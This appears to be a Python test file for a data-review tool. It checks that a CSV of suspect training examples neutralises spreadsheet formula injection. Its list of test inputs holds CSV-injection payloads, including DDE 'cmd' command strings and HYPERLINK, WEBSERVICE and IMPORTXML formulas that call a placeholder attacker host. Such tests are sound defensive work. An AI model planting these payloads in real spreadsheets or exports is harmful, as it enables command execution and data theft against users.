"""Texts from data that a spreadsheet would compute.

A cell counts as dangerous by a rule that has nothing in common with untrain's: what a spreadsheet sees first in it,
spaces and characters of control left out.
"""

import csv
import io
import unicodedata
from pathlib import Path

import numpy as np

from tests.reliability.conftest import Report
from untrain.data import Examples
from untrain.detection import Suspects, read_review, write_review

COMPUTED = (
    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\x00=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u3000＝1", "'=1+1", "''=1+1", "\"=1+1\"",
    "=1+1,=2+2", "x\n=1+1", "x\r\n=1+1", "=IMPORTXML(CONCAT(\"http://evil.example\";A1);\"//a\")", "%0A-1+1", "=\u202e1",
    "-", "+", "=", "@", "'", "''", "", " ", "\t", "007", "1e5", "1-2", "3/4", "12:30", "0x1F", "TRUE", "1,5", "-1", "+1",
    "١٢", "１２", "1234567890123456", "12", "0",
)  # fmt: skip
"""Texts that a spreadsheet computes, or takes for something else than the text that they are."""
_LETTERS = [*"=+-@'\"\t\r\n\0 ,;|0123456789abcXYZ./:%＝＋－＠\u00a0\u200b\ufeff猫\ud800"]


def test_no_cell_is_computed_and_every_id_comes_back(full: bool, tmp_path: Path, report: Report) -> None:
    draw = np.random.default_rng(0)
    drawn = ("".join(draw.choice(_LETTERS, int(draw.integers(1, 12)))) for _ in range(20000 if full else 300))
    ids, classes = list(dict.fromkeys([*COMPUTED, *drawn])), COMPUTED[:30]
    labels = np.arange(len(ids)) % len(classes)
    examples = Examples.of(np.zeros((len(ids), 1)), labels, ids, classes)
    everything = np.arange(len(ids))
    suspects = Suspects(examples, "loss", np.ones(len(ids)), everything, 1.0, (1.0, 1.0), None, labels, {})
    path = tmp_path / "suspects.csv"
    write_review(suspects, path)
    text = path.read_bytes().decode("utf-8", "surrogatepass").removeprefix("\ufeff")
    head, *rows = csv.reader(io.StringIO(text, newline=""))
    cells = [cell for row in rows for cell in row[1:4]]
    bare = sum(
        _is_computed(str(name)) + 2 * _is_computed(classes[label])
        for name, label in zip(examples.ids, labels, strict=True)
    )
    filled = io.StringIO(newline="")
    csv.writer(filled).writerows([head, *(["yes", *row[1:]] for row in rows)])
    path.write_bytes(filled.getvalue().encode("utf-8", "surrogatepass"))
    back = read_review(path, examples)
    assert len(back) == len(ids)
    assert bare
    report(
        "cells of suspects.csv that a spreadsheet would compute, among ids and class names",
        len(cells),
        {
            "left to be computed": [(f"{cell!a}", "a cell") for cell in cells if _is_computed(cell)],
            "numbers that are guarded": [(row[4], row[1]) for row in rows if row[4] != "1"],
            "other ids read back": [(f"{ids[row]!a}", "") for row, place in enumerate(back) if place != row],
        },
        control={"would be computed": bare},
    )


def _is_computed(cell: str) -> bool:
    """Whether a spreadsheet computes a cell."""
    seen = "".join(letter for letter in cell if not letter.isspace() and unicodedata.category(letter) != "Cc")
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@")
